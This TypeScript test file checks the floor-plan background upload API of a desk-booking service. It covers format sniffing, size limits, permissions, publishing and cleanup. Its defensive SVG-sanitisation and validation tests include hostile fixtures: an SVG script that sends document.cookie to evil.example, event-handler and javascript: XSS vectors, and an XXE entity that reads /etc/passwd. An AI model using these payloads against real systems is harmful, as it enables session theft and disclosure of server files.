import { crc32 } from 'node:zlib';
import {
  BACKGROUND_MAX_BYTES,
  type AuditEntry,
  type BackgroundUpload,
  type BuildingSummary,
  type Floor,
  type FloorLayout,
  type FloorSummary,
  type GroupSummary,
  type LayoutDraft,
  type ProblemDetails,
} from '@flexdesk/shared-contracts';
import { JobsService } from '../src/jobs/jobs.service';
import { Api, loggedIn, type Res } from './support/http';
import { gif, jpeg, png } from './support/images';
import { startTestApp, type TestApp } from './support/test-app';

const NOW = '2026-12-07T07:00:00Z';
const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const BACKGROUND_URL = /^\/api\/backgrounds\/[0-9a-f-]{36}$/;

interface Part {
  field?: string;
  bytes: Buffer;
  name: string;
  type?: string;
}

/** A PNG padded with an ancillary chunk to exactly `total` bytes (still a valid PNG). */
function pngOfSize(total: number): Buffer {
  const base = png(4, 4);
  const iend = base.subarray(base.length - 12);
  const padding = total - base.length - 12;
  const chunk = Buffer.alloc(12 + padding);
  chunk.writeUInt32BE(padding, 0);
  chunk.write('paDd', 4, 'latin1');
  chunk.writeUInt32BE(crc32(chunk.subarray(4, 8 + padding)), 8 + padding);
  return Buffer.concat([base.subarray(0, base.length - 12), chunk, iend]);
}

describe('floor backgrounds', () => {
  let t: TestApp;
  let facility: Api;
  let employee: Api;
  let admin: Api;
  let floorA: Floor;
  let floorB: Floor;

  /** A multipart upload as the browser's FormData sends it. */
  async function upload(api: Api, floorId: string, parts: Part[], fields: Record<string, string> = {}): Promise<Res> {
    const form = new FormData();
    for (const [k, v] of Object.entries(fields)) form.append(k, v);
    for (const p of parts)
      form.append(
        p.field ?? 'file',
        new Blob([new Uint8Array(p.bytes)], { type: p.type ?? 'application/octet-stream' }),
        p.name,
      );
    const res = await fetch(`${t.url}/api/floors/${floorId}/backgrounds`, {
      method: 'POST',
      headers: { authorization: `Bearer ${api.token}`, 'accept-language': 'en' },
      body: form,
    });
    const text = await res.text();
    return { status: res.status, headers: res.headers, body: text ? JSON.parse(text) : null };
  }

  async function fetchImage(api: Api, url: string, headers: Record<string, string> = {}) {
    const res = await fetch(`${t.url}${url}`, { headers: { authorization: `Bearer ${api.token}`, ...headers } });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  }

  async function saveDraft(
    floorId: string,
    plan: Partial<FloorLayout['plan']>,
  ): Promise<Res<LayoutDraft & ProblemDetails>> {
    const draft = (await facility.get<LayoutDraft>(`/api/floors/${floorId}/layout/draft`)).body;
    const layout = { ...draft.layout, plan: { ...draft.layout.plan, ...plan } };
    return facility.request('PUT', `/api/floors/${floorId}/layout/draft`, { draftVersion: draft.draftVersion, layout });
  }

  beforeAll(async () => {
    t = await startTestApp(NOW);
    facility = await loggedIn(t.url, 'facility@example.com');
    employee = await loggedIn(t.url, 'employee@example.com');
    admin = await loggedIn(t.url, 'admin@example.com');
    const buildings = (await employee.get<BuildingSummary[]>('/api/buildings')).body;
    const floors = buildings.flatMap((b) => b.floors);
    floorA = (await employee.get<Floor>(`/api/floors/${floors[0].id}`)).body;
    floorB = (await employee.get<Floor>(`/api/floors/${floors[1].id}`)).body;
  });
  afterEach(() => t.clock.reset());
  afterAll(() => t?.close());

  it('stores a PNG and serves it with a strong ETag, immutable caching and a locked-down CSP', async () => {
    const bytes = png(40, 20);
    const res = await upload(facility, floorA.id, [{ bytes, name: 'grundriss.png', type: 'image/png' }]);
    expect(res.status).toBe(201);
    const body = res.body as BackgroundUpload;
    expect(body).toEqual({
      backgroundUrl: expect.stringMatching(BACKGROUND_URL),
      contentType: 'image/png',
      width: 40,
      height: 20,
      bytes: bytes.length,
    });

    const image = await fetchImage(facility, body.backgroundUrl);
    expect(image.status).toBe(200);
    expect(image.bytes.equals(bytes)).toBe(true);
    expect(image.headers.get('content-type')).toBe('image/png');
    const etag = image.headers.get('etag') ?? '';
    expect(etag).toMatch(/^"[0-9a-f]{64}"$/);
    expect(image.headers.get('cache-control')).toBe('private, max-age=31536000, immutable');
    expect(image.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; img-src data:",
    );
    expect(image.headers.get('x-content-type-options')).toBe('nosniff');

    const again = await fetchImage(facility, body.backgroundUrl, { 'if-none-match': `W/"nope", ${etag}` });
    expect(again.status).toBe(304);
    expect(again.bytes.length).toBe(0);
    expect(again.headers.get('etag')).toBe(etag);
    expect((await fetchImage(facility, body.backgroundUrl, { 'if-none-match': '"other"' })).status).toBe(200);
  });

  it('goes by content, not by name or declared type: a JPEG sent as octet-stream is a JPEG', async () => {
    const res = await upload(facility, floorA.id, [{ bytes: jpeg(), name: 'plan.bin' }]);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ contentType: 'image/jpeg', width: 3, height: 2 });
    const image = await fetchImage(facility, (res.body as BackgroundUpload).backgroundUrl);
    expect(image.headers.get('content-type')).toBe('image/jpeg');
  });

  it('stores a hostile SVG sanitised, keeping the drawing', async () => {
    const hostile =
      `<?xml version="1.0"?><svg ${SVG_NS} viewBox="0 0 800 400" onload="alert(1)">` +
      `<script>fetch('https://evil.example/?c='+document.cookie)</script>` +
      `<rect x="10" y="10" width="780" height="380" fill="none" stroke="#333" onclick="alert(2)"/>` +
      `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(3)"/></body></foreignObject>` +
      `<image href="https://evil.example/pixel.png" width="1" height="1"/><use xlink:href="https://evil.example/sprite.svg#a"/>` +
      `<a href="javascript:alert(4)"><text x="20" y="40">Flur</text></a>` +
      `<style>@import url(https://evil.example/x.css);</style></svg>`;
    const res = await upload(facility, floorA.id, [
      { bytes: Buffer.from(hostile), name: 'plan.svg', type: 'image/svg+xml' },
    ]);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ contentType: 'image/svg+xml', width: 800, height: 400 });

    const image = await fetchImage(facility, (res.body as BackgroundUpload).backgroundUrl);
    expect(image.headers.get('content-type')).toBe('image/svg+xml');
    const svg = image.bytes.toString('utf8');
    expect(svg).toContain('<rect x="10" y="10" width="780" height="380" fill="none" stroke="#333"/>');
    expect(svg).toContain('Flur');
    expect(svg).not.toMatch(/script|onload|onclick|onerror|foreignObject|evil\.example|javascript:|@import/i);
    expect((res.body as BackgroundUpload).bytes).toBe(image.bytes.length);
  });

  it('refuses oversize files with 413, by multer and at the exact limit', async () => {
    const atLimit = await upload(facility, floorA.id, [{ bytes: pngOfSize(BACKGROUND_MAX_BYTES), name: 'big.png' }]);
    expect(atLimit.status).toBe(201);
    expect(atLimit.body.bytes).toBe(BACKGROUND_MAX_BYTES);

    for (const size of [BACKGROUND_MAX_BYTES + 1, BACKGROUND_MAX_BYTES + 1024 * 1024]) {
      const res = await upload(facility, floorA.id, [{ bytes: pngOfSize(size), name: 'huge.png', type: 'image/png' }]);
      expect(res.status).toBe(413);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      expect(res.body).toMatchObject({
        code: 'BACKGROUND_TOO_LARGE',
        detail: 'The image is too large; at most 5 MB are allowed.',
      });
    }
  });

  it('refuses other formats with 415 and broken images with 422, whatever they are called', async () => {
    const gifRes = await upload(facility, floorA.id, [{ bytes: gif(), name: 'plan.gif', type: 'image/gif' }]);
    expect(gifRes.status).toBe(415);
    expect(gifRes.body.code).toBe('BACKGROUND_UNSUPPORTED_TYPE');
    const renamed = await upload(facility, floorA.id, [
      { bytes: Buffer.from('Raumliste 2. OG\n2.14 Fenster\n'), name: 'plan.png', type: 'image/png' },
    ]);
    expect(renamed.status).toBe(415);
    expect(renamed.body).toMatchObject({ code: 'BACKGROUND_UNSUPPORTED_TYPE', title: 'Unsupported Media Type' });

    const truncated = png(10, 10).subarray(0, 40);
    const broken = await upload(facility, floorA.id, [{ bytes: truncated, name: 'plan.png', type: 'image/png' }]);
    expect(broken.status).toBe(422);
    expect(broken.body.code).toBe('BACKGROUND_INVALID');
    const notXml = await upload(facility, floorA.id, [
      { bytes: Buffer.from(`<svg ${SVG_NS}><g></svg>`), name: 'plan.svg', type: 'image/svg+xml' },
    ]);
    expect(notXml.status).toBe(422);
    expect(notXml.body).toMatchObject({
      code: 'BACKGROUND_INVALID',
      errors: [{ path: 'file', message: 'not well-formed XML' }],
    });
    const xxe = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}><text>&x;</text></svg>`;
    expect((await upload(facility, floorA.id, [{ bytes: Buffer.from(xxe), name: 'plan.svg' }])).body.code).toBe(
      'BACKGROUND_INVALID',
    );
  });

  it('answers a missing file, a wrong field, extra fields or two files with 400 BACKGROUND_MISSING', async () => {
    const noFile = await facility.post<ProblemDetails>(`/api/floors/${floorA.id}/backgrounds`, { file: 'nope' });
    expect(noFile.status).toBe(400);
    expect(noFile.body.code).toBe('BACKGROUND_MISSING');
    const cases = [
      await upload(facility, floorA.id, []),
      await upload(facility, floorA.id, [{ field: 'image', bytes: png(2, 2), name: 'a.png' }]),
      await upload(facility, floorA.id, [{ bytes: png(2, 2), name: 'a.png' }], { note: 'x' }),
      await upload(facility, floorA.id, [
        { bytes: png(2, 2), name: 'a.png' },
        { bytes: png(2, 2), name: 'b.png' },
      ]),
      await upload(facility, floorA.id, [{ bytes: Buffer.alloc(0), name: 'empty.png' }]),
    ];
    for (const res of cases) {
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      expect(res.body.code).toBe('BACKGROUND_MISSING');
    }
    const unknownFloor = await upload(facility, '00000000-0000-4000-8000-000000000000', [
      { bytes: png(2, 2), name: 'a.png' },
    ]);
    expect(unknownFloor.status).toBe(404);
    expect(unknownFloor.body.code).toBe('FLOOR_NOT_FOUND');
  });

  it('lets only facility managers and admins upload; employees see only published backgrounds', async () => {
    const denied = await upload(employee, floorA.id, [{ bytes: png(2, 2), name: 'a.png' }]);
    expect(denied.status).toBe(403);
    expect(denied.body.code).toBe('FORBIDDEN');

    const draftOnly = (await upload(admin, floorA.id, [{ bytes: png(8, 8), name: 'draft.png' }]))
      .body as BackgroundUpload;
    expect((await fetchImage(admin, draftOnly.backgroundUrl)).status).toBe(200);
    const hidden = await employee.get<ProblemDetails>(draftOnly.backgroundUrl);
    expect(hidden.status).toBe(404);
    expect(hidden.body.code).toBe('BACKGROUND_NOT_FOUND');
    expect(hidden.headers.get('content-type')).toContain('application/problem+json');
    expect(
      (await employee.get<ProblemDetails>('/api/backgrounds/00000000-0000-4000-8000-000000000000')).body.code,
    ).toBe('BACKGROUND_NOT_FOUND');
    expect((await employee.get<ProblemDetails>('/api/backgrounds/not-a-uuid')).status).toBe(404);
  });

  it('accepts only backgrounds of the same floor in a draft, and publishes the background with the layout', async () => {
    const own = (await upload(facility, floorA.id, [{ bytes: png(100, 50), name: 'a.png' }])).body as BackgroundUpload;
    const foreign = (await upload(facility, floorB.id, [{ bytes: png(100, 50), name: 'b.png' }]))
      .body as BackgroundUpload;

    for (const backgroundUrl of [foreign.backgroundUrl, 'https://evil.example/plan.png', '/api/floors/x/background']) {
      const res = await saveDraft(floorA.id, { backgroundUrl });
      expect(res.status).toBe(422);
      expect(res.body.code).toBe('BACKGROUND_NOT_ON_FLOOR');
      expect(res.body.errors?.map((e) => e.path)).toEqual(['layout.plan.backgroundUrl']);
    }

    const saved = await saveDraft(floorA.id, { backgroundUrl: own.backgroundUrl, scale: 50 });
    expect(saved.status).toBe(200);
    expect(saved.body.layout.plan).toMatchObject({ backgroundUrl: own.backgroundUrl, scale: 50 });
    // Not yet published: employees still see the seeded outline (and may load it), not the new image.
    const seeded = (await employee.get<Floor>(`/api/floors/${floorA.id}`)).body.plan.backgroundUrl;
    expect(seeded).toMatch(BACKGROUND_URL);
    expect(seeded).not.toBe(own.backgroundUrl);
    const outline = await fetchImage(employee, seeded ?? '');
    expect(outline.status).toBe(200);
    expect(outline.headers.get('content-type')).toBe('image/svg+xml');
    expect((await fetchImage(employee, own.backgroundUrl)).status).toBe(404);

    const published = await facility.post(`/api/floors/${floorA.id}/layout/publish`, {
      draftVersion: saved.body.draftVersion,
    });
    expect(published.status).toBe(200);
    const seen = (await employee.get<Floor>(`/api/floors/${floorA.id}`)).body;
    expect(seen.plan).toEqual({
      width: floorA.plan.width,
      height: floorA.plan.height,
      scale: 50,
      backgroundUrl: own.backgroundUrl,
    });
    expect((await fetchImage(employee, own.backgroundUrl)).status).toBe(200);

    // The export carries the reference; importing it into another floor is refused with the path.
    const exported = (await facility.get<FloorLayout>(`/api/floors/${floorA.id}/layout`)).body;
    expect(exported.plan.backgroundUrl).toBe(own.backgroundUrl);
    const draftB = (await facility.get<LayoutDraft>(`/api/floors/${floorB.id}/layout/draft`)).body;
    const imported = await facility.request<ProblemDetails>('PUT', `/api/floors/${floorB.id}/layout/draft`, {
      draftVersion: draftB.draftVersion,
      layout: { ...draftB.layout, plan: exported.plan },
    });
    expect(imported.status).toBe(422);
    expect(imported.body.errors?.[0].path).toBe('layout.plan.backgroundUrl');

    // Removing it again: the next publish shows no background, and employees lose access.
    const cleared = await saveDraft(floorA.id, { backgroundUrl: null });
    expect(
      (await facility.post(`/api/floors/${floorA.id}/layout/publish`, { draftVersion: cleared.body.draftVersion }))
        .status,
    ).toBe(200);
    expect((await employee.get<Floor>(`/api/floors/${floorA.id}`)).body.plan).toMatchObject({
      backgroundUrl: null,
      scale: 50,
    });
    expect((await fetchImage(employee, own.backgroundUrl)).status).toBe(404);
  });

  it('deletes a floor together with its backgrounds, and audits uploads', async () => {
    const floor = (
      await facility.post<FloorSummary>(`/api/buildings/${floorA.buildingId}/floors`, {
        name: 'Keller',
        level: -1,
        width: 500,
        height: 300,
      })
    ).body;
    const bg = (await upload(facility, floor.id, [{ bytes: png(5, 3), name: 'k.png' }])).body as BackgroundUpload;
    const draft = await saveDraft(floor.id, { backgroundUrl: bg.backgroundUrl });
    expect(
      (await facility.post(`/api/floors/${floor.id}/layout/publish`, { draftVersion: draft.body.draftVersion })).status,
    ).toBe(200);
    expect((await facility.delete(`/api/floors/${floor.id}`)).status).toBe(204);
    expect((await fetchImage(facility, bg.backgroundUrl)).status).toBe(404);

    const audit = (await admin.get<AuditEntry[]>('/api/audit?limit=100')).body;
    const uploadEntry = audit.find(
      (a) => a.entityType === 'background' && a.entityId === bg.backgroundUrl.split('/').pop(),
    );
    expect(uploadEntry).toMatchObject({
      action: 'upload',
      actorName: 'Fatma Yılmaz',
      details: { floorId: floor.id, contentType: 'image/png', width: 5, height: 3 },
    });
  });

  it('lists groups by name for facility managers and admins only', async () => {
    const res = await facility.get<GroupSummary[]>('/api/groups');
    expect(res.status).toBe(200);
    const names = res.body.map((g) => g.name);
    expect(names).toEqual(expect.arrayContaining(['Bauamt', 'Bürgerservice', 'IT']));
    expect(names).toEqual([...names].sort((a, b) => a.localeCompare(b, 'de')));
    expect(res.body.every((g) => typeof g.id === 'string' && Object.keys(g).length === 2)).toBe(true);
    expect((await admin.get('/api/groups')).status).toBe(200);
    const denied = await employee.get<ProblemDetails>('/api/groups');
    expect(denied.status).toBe(403);
    expect(denied.body.code).toBe('FORBIDDEN');
  });
  it('deletes backgrounds a day after upload when neither a floor nor a draft uses them', async () => {
    const floors = (await employee.get<BuildingSummary[]>('/api/buildings')).body.flatMap((b) => b.floors);
    const seeded = (await employee.get<Floor>(`/api/floors/${floors[2].id}`)).body.plan.backgroundUrl ?? '';
    const discarded = (await upload(facility, floorB.id, [{ bytes: png(8, 8), name: 'old.png' }]))
      .body as BackgroundUpload;
    const drafted = (await upload(facility, floorB.id, [{ bytes: png(9, 9), name: 'draft.png' }]))
      .body as BackgroundUpload;
    expect((await saveDraft(floorB.id, { backgroundUrl: drafted.backgroundUrl })).status).toBe(200);
    const jobs = t.created.app.get(JobsService);

    // Uploads are stamped by the database clock; the job compares with the app clock.
    t.clock.set(new Date());
    expect((await jobs.purge())?.backgrounds).toBe(0);
    expect((await fetchImage(facility, discarded.backgroundUrl)).status).toBe(200);

    t.clock.set(new Date(Date.now() + 2 * 86_400_000));
    expect((await jobs.purge())?.backgrounds).toBeGreaterThanOrEqual(1);
    expect((await fetchImage(facility, discarded.backgroundUrl)).status).toBe(404);
    expect((await fetchImage(facility, drafted.backgroundUrl)).status).toBe(200);
    expect(seeded).toMatch(BACKGROUND_URL);
    expect((await fetchImage(employee, seeded)).status).toBe(200);
  });
});
